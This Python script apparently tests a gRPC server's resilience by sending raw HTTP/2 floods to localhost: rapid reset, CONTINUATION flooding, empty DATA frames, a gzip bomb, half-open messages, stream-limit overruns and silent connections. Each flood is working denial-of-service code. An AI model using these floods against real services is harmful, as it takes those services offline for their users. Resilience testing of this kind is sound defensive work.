"""Floods of HTTP/2, as a client sends them that is no gRPC library: each until it is closed, or its time is over.

    floods.py NAME PORT SECONDS [CA CERTIFICATE KEY]

Without the files in plain text. Whoever is closed comes again until the time is over. Prints a line of JSON: connections, how
many of them the server has closed, bytes that it took, and seconds until the first was closed.

Source: RFC 9113; header fields are written literally (RFC 7541, 6.2.2).
"""

import functools
import json
import socket
import ssl
import struct
import sys
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, WINDOW, CONTINUATION = 0, 1, 3, 4, 8, 9
END_HEADERS = 4
MAX_FRAME = 16_384
SOURCE = "127.0.0.2"  # where they come from: not the address of those beside them
DECODE = "/maskd.v1.MaskService/Decode"
COMPILE = "/maskd.v1.CompileService/Compile"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def field(name: str, value: str) -> bytes:
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def headers(method: str, **more: str) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "localhost",
              "te": "trailers", "content-type": "application/grpc"}
    fields.update({name.replace("_", "-"): value for name, value in more.items()})
    return b"".join(field(name, value) for name, value in fields.items())


def opened(stream: int, method: str, **more: str) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, headers(method, **more))


class Connection:
    """One connection, none of whose calls wait for an answer. What is to be sent is a generator of bytes."""

    def __init__(self, port: int, tls: ssl.SSLContext | None):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(SOURCE, 0))
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
        self.socket.setblocking(False)
        self.begin = time.monotonic()
        self.closed_after = None
        self.taken = 0
        self.window = {0: 65_535}  # by stream, the connection's as 0
        self.first_window = 65_535
        self._in = bytearray()
        self._out = b""

    def pump(self, chunks) -> bool:
        """Takes what has come and sends what may be sent. Whether there is more to send."""
        try:
            self._receive()
            for _ in range(64):
                self._out = self._out or next(chunks, b"")
                if not self._out:
                    return False
                sent = self.socket.send(self._out)
                self.taken += sent
                self._out = self._out[sent:]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError:
            self._close()
        return self.closed_after is None

    def _close(self) -> None:
        if self.closed_after is None:
            self.closed_after = time.monotonic() - self.begin

    def _receive(self) -> None:
        while True:
            try:
                came = self.socket.recv(65_536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            if not came:
                self._close()
                raise ConnectionResetError
            self._in += came
            self._take_frames()

    def _take_frames(self) -> None:
        while len(self._in) >= 9:
            size, kind, stream = int.from_bytes(self._in[:3]), self._in[3], int.from_bytes(self._in[5:9])
            if len(self._in) < 9 + size:
                return
            payload = bytes(self._in[9:9 + size])
            del self._in[:9 + size]
            if kind == WINDOW:
                self.window[stream] = self.window.get(stream, self.first_window) + int.from_bytes(payload)
            elif kind == SETTINGS:
                self._take_settings(payload)

    def _take_settings(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            name, value = struct.unpack(">HI", payload[at:at + 6])
            if name == 4:  # SETTINGS_INITIAL_WINDOW_SIZE
                for stream in self.window:
                    self.window[stream] += value - self.first_window if stream else 0
                self.first_window = value

    def data(self, stream: int, body: bytes):
        """The body in frames, as far as the windows allow it; nothing while they do not."""
        while body:
            room = min(self.window[0], self.window.get(stream, self.first_window), MAX_FRAME, len(body))
            if room <= 0:
                yield b""
                continue
            self.window[0] -= room
            self.window[stream] = self.window.get(stream, self.first_window) - room
            yield frame(DATA, 0, stream, body[:room])
            body = body[room:]


def rapid_reset(connection: Connection):
    yield PREFACE + frame(SETTINGS, 0, 0)
    cancel = struct.pack(">I", 8)
    for first in range(1, 400_000, 200):
        yield b"".join(opened(stream, COMPILE) + frame(RESET, 0, stream, cancel)
                       for stream in range(first, first + 200, 2))


def continuation(connection: Connection):
    yield PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, headers(DECODE))
    more = frame(CONTINUATION, 0, 1, field("x", "y" * 100) * 100)
    for _ in range(1_000_000):
        yield more


def empty_data(connection: Connection):
    yield PREFACE + frame(SETTINGS, 0, 0) + opened(1, DECODE)
    for _ in range(100_000):
        yield frame(DATA, 0, 1) * 1000


@functools.cache
def packed_zeros() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(256)) + packer.flush()


def gzip(connection: Connection):
    """256 MiB in 256 KiB."""
    body = packed_zeros()
    yield PREFACE + frame(SETTINGS, 0, 0) + opened(1, COMPILE, grpc_encoding="gzip")
    yield from connection.data(1, b"\1" + struct.pack(">I", len(body)) + body)


def half_open(connection: Connection):
    """As many calls as a server lets a connection have, each of which begins a message of 16 MiB and never ends it."""
    begun = b"\0" + struct.pack(">I", 16 << 20)
    yield PREFACE + frame(SETTINGS, 0, 0)
    for stream in range(1, 200, 2):
        yield opened(stream, DECODE) + frame(DATA, 0, stream, begun)


def calls(connection: Connection):
    """60,000 calls at once, whatever the server says how many it would have."""
    yield PREFACE + frame(SETTINGS, 0, 0)
    for first in range(1, 120_000, 200):
        yield b"".join(opened(stream, DECODE) for stream in range(first, first + 200, 2))


def silent(connection: Connection):
    yield b""


FLOODS = {each.__name__: each for each in (rapid_reset, continuation, empty_data, gzip, half_open, calls, silent)}
COUNTS = {"gzip": 4, "half_open": 8, "silent": 1100}  # of connections; else 1


def context(ca: str, certificate: str, key: str) -> ssl.SSLContext:
    made = ssl.create_default_context(cafile=ca)
    made.load_cert_chain(certificate, key)
    made.set_alpn_protocols(["h2"])
    return made


def connect(count: int, port: int, tls: ssl.SSLContext | None) -> list:
    connections = []
    for _ in range(count):
        try:
            connections.append(Connection(port, tls))
        except OSError:
            continue  # nobody is let in any more
    return connections


def run(name: str, port: int, seconds: float, tls: ssl.SSLContext | None, again: bool = False) -> dict:
    """One flood; with `again` those that are closed come back. Silent connections do not even shake hands."""
    if name == "gzip":
        packed_zeros()  # not within the time
    tls = None if name == "silent" else tls
    wanted = COUNTS.get(name, 1)
    result = {"connections": 0, "closed": 0, "bytes": 0, "first closed": None}
    end = time.monotonic() + seconds
    busy = {}
    while time.monotonic() < end:
        if again or result["connections"] == 0:
            come = min(wanted - len(busy), 64 if busy else wanted)
            let_in = connect(come, port, tls)
            busy.update({each: FLOODS[name](each) for each in let_in})
            result["connections"] += come
            result["closed"] += come - len(let_in)
        if not busy:
            break
        if not any([each.pump(chunks) for each, chunks in busy.items()]):
            time.sleep(0.02)
        for each in [each for each in busy if each.closed_after is not None]:
            del busy[each]
            result["closed"] += 1
            result["bytes"] += each.taken
            result["first closed"] = min(result["first closed"] or each.closed_after, each.closed_after)
    result["bytes"] += sum(each.taken for each in busy)
    return result


def main() -> int:
    name, port, seconds, *files = sys.argv[1:]
    print(json.dumps(run(name, int(port), float(seconds), context(*files) if files else None, again=True)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
